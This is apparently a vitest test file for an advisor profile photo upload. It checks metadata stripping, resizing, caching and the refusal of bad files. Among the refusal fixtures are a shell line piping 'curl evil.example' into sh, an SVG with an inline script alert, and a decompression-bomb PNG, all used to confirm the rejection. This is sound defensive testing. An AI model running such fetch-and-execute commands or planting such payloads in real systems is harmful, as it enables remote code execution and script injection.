import { createHash } from 'node:crypto';
import { ADVISOR_UPLOAD_MAX_BYTES, advisorProfileSchema } from '@app/shared/schemas/advisor-console';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  GPS_IFD_POINTER,
  noisyJpeg,
  pngClaiming,
  sidewaysJpegWithExif,
  solidImage,
} from '../helpers/media.ts';
import { AGENT, PHOTO, type Refusal, useProfileUploadsApp } from './profile-uploads-test-app.ts';

// The advisor's photo: stored upright, fitted, re-encoded and stripped, and every kind of file refused in
// words. The voice introduction, the French words and who may upload: profile-uploads-voice.
describe("the advisor's photo and voice introduction uploads", () => {
  const { testApp, advisor, upload, media, errorOf, photoOf } = useProfileUploadsApp();

  it('stores a phone photo upright, within 800 px, re-encoded as JPEG, without its EXIF or GPS position', async () => {
    const original = await sidewaysJpegWithExif(1600, 1000);
    const originalMeta = await sharp(original).metadata();
    // The test file really carries what must go: a sideways orientation, the camera, a GPS position.
    expect(originalMeta.orientation).toBe(6);
    expect(originalMeta.exif?.includes(GPS_IFD_POINTER)).toBe(true);
    expect(original.includes('LeakyCam')).toBe(true);
    const before = await photoOf(`${PHOTO}?agentId=${AGENT}`);
    const profileBefore = advisorProfileSchema.parse(
      (
        await testApp.app.inject({
          method: 'GET',
          url: `/api/advisor/${AGENT}/profile`,
          headers: { cookie: advisor.cookie },
        })
      ).json(),
    );

    const res = await upload('photo', original, 'image/jpeg');
    expect(res.statusCode, res.body).toBe(200);
    const profile = advisorProfileSchema.parse(res.json());
    expect(profile.photoUrl).not.toBe(profileBefore.photoUrl);
    expect(profile.photoUrl).toMatch(new RegExp(`^${PHOTO}\\?agentId=${AGENT}&v=[0-9a-f]{16}$`));

    // The public URL of the spec answers the new photo at once, revalidated on every use.
    const plain = await photoOf(`${PHOTO}?agentId=${AGENT}`);
    expect(plain.statusCode).toBe(200);
    expect(plain.headers['content-type']).toBe('image/jpeg');
    expect(plain.headers['cache-control']).toBe('public, no-cache');
    expect(plain.headers.etag).not.toBe(before.headers.etag);
    const stored = plain.rawPayload;
    const meta = await sharp(stored).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 500, height: 800 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(stored.includes('LeakyCam')).toBe(false);
    expect(stored.includes('Exif')).toBe(false);
    expect(await media(AGENT)).toMatchObject({
      photoContentType: 'image/jpeg',
      photo: createHash('sha256').update(stored).digest('hex'),
    });
    const revalidated = await testApp.app.inject({
      method: 'GET',
      url: `${PHOTO}?agentId=${AGENT}`,
      headers: { 'if-none-match': plain.headers.etag as string },
    });
    expect(revalidated.statusCode).toBe(304);

    // The versioned URL names these bytes: cached for good.
    const versioned = await photoOf(profile.photoUrl ?? '');
    expect(versioned.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(versioned.rawPayload.equals(stored)).toBe(true);
    const stale = await photoOf(profileBefore.photoUrl ?? '');
    expect(stale.headers['cache-control']).toBe('public, no-cache');

    // The public pages keep the plain URL, which now shows the new photo.
    const feed = (
      await testApp.app.inject({ method: 'GET', url: '/.netlify/functions/fetch-psychicstatus-json' })
    ).json() as {
      agentId: number;
      photoUrl: string;
    }[];
    expect(feed.find((record) => record.agentId === AGENT)?.photoUrl).toBe(`${PHOTO}?agentId=${AGENT}`);
  });

  it.each([
    ['a PNG with transparency', () => solidImage('png', 1200, 300, true), 'image/png', [800, 200]],
    ['a WebP', () => solidImage('webp', 320, 240), 'image/webp', [320, 240]],
    ['a JPEG sent without a type', () => noisyJpeg(640, 480), undefined, [640, 480]],
  ] as const)('accepts %s, never enlarged', async (_case, make, type, [width, height]) => {
    const res = await upload('photo', await make(), type);
    expect(res.statusCode, res.body).toBe(200);
    const stored = (await photoOf(`${PHOTO}?agentId=${AGENT}`)).rawPayload;
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width, height });
  });

  const photoRefusals: Refusal[] = [
    ['a GIF', () => solidImage('gif'), 'image/gif', 415, 'UNSUPPORTED_MEDIA_TYPE', 'JPEG, PNG or WebP'],
    [
      'a GIF named as a JPEG',
      () => solidImage('gif'),
      'image/jpeg',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'an SVG',
      async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'image/svg+xml',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'an SVG named as a PNG',
      async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'),
      'image/png',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a HEIF (AVIF) picture',
      () => solidImage('avif'),
      'image/heic',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a script named photo.jpg',
      async () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
      'image/jpeg',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a text file',
      async () => Buffer.from('just some text'),
      'text/plain',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'JSON',
      async () => Buffer.from('{"photo":"x"}'),
      'application/json',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a truncated JPEG',
      async () => (await noisyJpeg()).subarray(0, 20_000),
      'image/jpeg',
      400,
      'DAMAGED_FILE',
      'damaged',
    ],
    [
      'a JPEG signature and garbage',
      async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 0x41)]),
      'image/jpeg',
      400,
      'DAMAGED_FILE',
      'damaged',
    ],
    [
      'a decompression bomb (a tiny PNG claiming 7500 × 7500)',
      () => pngClaiming(7_500, 7_500),
      'image/png',
      400,
      'IMAGE_TOO_MANY_PIXELS',
      'megapixels',
    ],
    [
      'a PNG of 49,000,000 × 1 pixels (under 50 megapixels, refused from its header before decoding)',
      () => pngClaiming(49_000_000, 1),
      'image/png',
      400,
      'IMAGE_TOO_LONG',
      'too wide or too tall',
    ],
    [
      'a real PNG of 12,001 × 2 pixels',
      () => solidImage('png', 12_001, 2),
      'image/png',
      400,
      'IMAGE_TOO_LONG',
      'too wide or too tall',
    ],
    [
      'a real PNG of 2 × 12,001 pixels',
      () => solidImage('png', 2, 12_001),
      'image/png',
      400,
      'IMAGE_TOO_LONG',
      'too wide or too tall',
    ],
    [
      'a file over 5 MB',
      async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(ADVISOR_UPLOAD_MAX_BYTES)]),
      'image/jpeg',
      413,
      'FILE_TOO_LARGE',
      '5 MB',
    ],
    ['no body at all', async () => undefined, 'image/jpeg', 400, 'EMPTY_UPLOAD', 'No file'],
  ];
  it.each(photoRefusals)(
    'refuses %s in words, changing nothing',
    async (_case, make, type, status, code, words) => {
      const before = await media(AGENT);
      const res = await upload('photo', await make(), type);
      expect(res.statusCode, res.body).toBe(status);
      expect(errorOf(res).code).toBe(code);
      expect(errorOf(res).message).toContain(words);
      expect(await media(AGENT)).toEqual(before);
    },
  );

  it('accepts a picture of exactly 12,000 px on its longest side, fitted within 800 px', async () => {
    const res = await upload('photo', await solidImage('png', 12_000, 600), 'image/png');
    expect(res.statusCode, res.body).toBe(200);
    const stored = await photoOf(`${PHOTO}?agentId=${AGENT}`);
    expect(await sharp(stored.rawPayload).metadata()).toMatchObject({
      format: 'jpeg',
      width: 800,
      height: 40,
    });
  });
});
